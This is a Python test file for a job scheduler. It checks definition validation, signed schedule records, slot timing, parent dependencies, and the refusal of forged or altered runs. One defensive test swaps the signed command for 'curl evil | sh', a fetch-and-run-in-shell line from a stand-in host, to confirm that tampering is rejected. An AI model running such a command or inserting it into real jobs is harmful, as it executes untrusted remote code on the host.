"""A schedule's definition, its record, and the check that a job is exactly its signed run."""

from __future__ import annotations

import dataclasses
from typing import Any

import msgspec
import pytest

from schedagent.core.schedrun import verify_run
from schedagent.core.schedule import Schedule, parse_definition
from schedagent.core.signing import SignatureRejected, SigningKey
from schedagent.core.slots import slot_job_id
from schedagent.errors import ScheduleError

KEY, OTHER = SigningKey.generate(), SigningKey.generate()
TRUSTED = {KEY.key_id: KEY.public}
START = 1_699_999_980  # in the past (signatures from the future are refused), a minute


def make(key: SigningKey = KEY, **fields: Any) -> Schedule:
    raw = {"name": "backup", "every": 60, "job": {"cmd": "make backup", "cpus": 2}, **fields}
    definition = parse_definition(raw)
    return Schedule(definition, key.sign_schedule(definition.to_dict(), now=START))


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        ({"every": 60, "job": {"cmd": "x"}}, "name"),
        ({"name": "a b", "every": 60, "job": {"cmd": "x"}}, "name"),
        ({"name": "a", "job": {"cmd": "x"}}, "either cron or every"),
        ({"name": "a", "cron": "@daily", "every": 5, "job": {"cmd": "x"}}, "either cron or every"),
        ({"name": "a", "every": 0, "job": {"cmd": "x"}}, "every must be whole seconds"),
        ({"name": "a", "every": 1.5, "job": {"cmd": "x"}}, "every must be whole seconds"),
        ({"name": "a", "every": 5, "tz": "Europe/Berlin", "job": {"cmd": "x"}}, "tz applies"),
        ({"name": "a", "cron": "@daily", "tz": "Nowhere/Else", "job": {"cmd": "x"}}, "zone"),
        ({"name": "a", "every": 5, "job": {"cmd": ""}}, "job: cmd"),
        ({"name": "a", "every": 5, "job": {"cmd": "x", "idempotency_key": "k"}}, "no field"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "concurrency": "x"}, "concurrency"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "catch_up": "some"}, "catch_up"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "catch_up_window": 0}, "window"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "splay": -1}, "splay"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "after": "b"}, "list of schedule"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "after": ["b c"]}, "not a schedule name"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "after": ["a"]}, "wait for itself"),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "after": ["b", "b"]}, "more than once"),
        (
            {"name": "a", "every": 5, "job": {"cmd": "x"}, "after": [f"p{i}" for i in range(65)]},
            "at most 64",
        ),
        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "before": ["b"]}, "unknown"),
    ],
)
def test_a_bad_definition_says_what_is_wrong(raw: dict[str, Any], why: str) -> None:
    with pytest.raises(ScheduleError, match=why):
        parse_definition(raw)


def test_the_record_round_trips_and_its_runs_are_its_job() -> None:
    schedule = make(cron="*/5 * * * *", every=None, tz="Europe/Berlin")
    assert Schedule.from_json(schedule.to_json()) == schedule
    slot = schedule.definition.slots().next_after(START)
    assert slot % 300 == 0 and START < slot <= START + 300
    spec = schedule.slot_spec(slot)
    assert spec.cmd == "make backup" and spec.cpus == 2.0 and spec.signature is None
    assert verify_run(schedule.slot_job_id(slot), spec, TRUSTED).key_id == KEY.key_id


def check(s: Schedule, slot: int | None, job_id: str | None = None, **change: Any) -> None:
    spec = msgspec.structs.replace(s.slot_spec(slot), **change)
    verify_run(job_id or s.slot_job_id(slot or 0), spec, TRUSTED)


def test_forged_altered_and_unsigned_runs_are_refused() -> None:
    good = make()
    check(good, START + 60)
    with pytest.raises(SignatureRejected, match="not the signed schedule's job"):
        check(good, START + 60, cmd="curl evil | sh")
    with pytest.raises(SignatureRejected, match="not the signed schedule's job"):
        check(good, START + 60, user="root")
    with pytest.raises(SignatureRejected, match="unknown key"):
        check(make(OTHER), START + 60)
    # The definition altered after signing (a slot every second instead of every minute).
    forged = dataclasses.replace(good, definition=dataclasses.replace(good.definition, every=1))
    with pytest.raises(SignatureRejected, match="does not match the schedule"):
        check(forged, START + 61)
    with pytest.raises(SignatureRejected, match="not a slot"):
        check(good, START + 61)
    with pytest.raises(SignatureRejected, match="not a slot"):
        check(good, START - 60)  # before the schedule was signed
    with pytest.raises(SignatureRejected, match="is not the run of slot"):
        check(good, START + 60, job_id=good.slot_job_id(START + 120))
    with pytest.raises(SignatureRejected, match="not its own"):
        check(good, START + 60, signature=KEY.sign({"cmd": "make backup"}).to_dict())
    origin = dict(good.slot_spec(START + 60).schedule or {})
    origin["signature"] = None
    with pytest.raises(SignatureRejected, match="malformed"):
        check(good, START + 60, schedule=origin)


def test_a_run_outside_the_schedule_needs_a_signed_request_for_this_version() -> None:
    schedule = make()
    with pytest.raises(SignatureRejected, match="signed run request"):
        check(schedule, None, job_id="0" * 20)
    run = KEY.sign_schedule_action("run", "backup", schedule.signature.value)
    checked = verify_run("0" * 20, schedule.slot_spec(None, run), TRUSTED)
    assert checked.nonce == run.nonce
    older = make()  # the same definition signed again: another version
    stale = KEY.sign_schedule_action("run", "backup", older.signature.value)
    with pytest.raises(SignatureRejected, match="does not match this schedule run"):
        verify_run("0" * 20, schedule.slot_spec(None, stale), TRUSTED)
    pause = KEY.sign_schedule_action("pause", "backup", schedule.signature.value)
    with pytest.raises(SignatureRejected, match="does not match"):
        verify_run("0" * 20, schedule.slot_spec(None, pause), TRUSTED)


def test_a_definition_without_after_signs_as_before_the_field_existed() -> None:
    # What schedctl signed before `after` existed: the definition without the key.
    old = {
        "name": "backup",
        "job": parse_definition({"name": "x", "every": 1, "job": {"cmd": "true"}}).job,
        "cron": None,
        "tz": "UTC",
        "every": 60,
        "concurrency": "forbid",
        "catch_up": "one",
        "catch_up_window": 3600.0,
        "splay": 0.0,
    }
    signature = KEY.sign_schedule(old, now=START)
    schedule = Schedule.from_dict({"definition": old, "signature": signature.to_dict()})
    assert "after" not in schedule.definition.to_dict()
    check(schedule, START + 60)
    assert schedule.slot_spec(START + 60).after == ()


def test_a_child_run_waits_for_exactly_its_signed_parents_runs_of_the_slot() -> None:
    child = make(after=["extract", "load"])
    slot = START + 60
    spec = child.slot_spec(slot)
    assert spec.after == (slot_job_id("extract", slot), slot_job_id("load", slot))
    assert Schedule.from_json(child.to_json()) == child
    check(child, slot)
    forged_afters = [
        spec.after[:1],  # a parent dropped
        (),  # both dropped
        (*spec.after, slot_job_id("other", slot)),  # one added
        child.definition.parent_runs(slot + 60),  # another slot's
        spec.after[::-1],  # not as signed
    ]
    for after in forged_afters:
        with pytest.raises(SignatureRejected, match="the run's after is not the runs"):
            check(child, slot, after=after)
    # A schedule without parents: its runs wait for nothing.
    with pytest.raises(SignatureRejected, match=r"after is not the runs of slot .* no schedule"):
        check(make(), slot, after=(slot_job_id("extract", slot),))
    # Signed parents cannot be changed after signing.
    forged = dataclasses.replace(
        child, definition=dataclasses.replace(child.definition, after=("extract",))
    )
    with pytest.raises(SignatureRejected, match="does not match the schedule"):
        check(forged, slot)
    # A run outside the slots (schedctl schedule run) waits for no parent.
    run = KEY.sign_schedule_action("run", "backup", child.signature.value)
    assert verify_run("0" * 20, child.slot_spec(None, run), TRUSTED).nonce == run.nonce
    with pytest.raises(SignatureRejected, match="waits for no parent"):
        manual = msgspec.structs.replace(child.slot_spec(None, run), after=spec.after)
        verify_run("0" * 20, manual, TRUSTED)


@pytest.mark.parametrize(
    "raw", [b'{"definition": {}}', b"[]", b"{", b'{"definition": {"name": 3}, "signature": {}}']
)
def test_a_malformed_record_is_a_value_error_for_the_store_to_skip(raw: bytes) -> None:
    # malformed.decode skips and notes ValueErrors; anything else would stop the loop.
    with pytest.raises(ValueError):
        Schedule.from_json(raw)
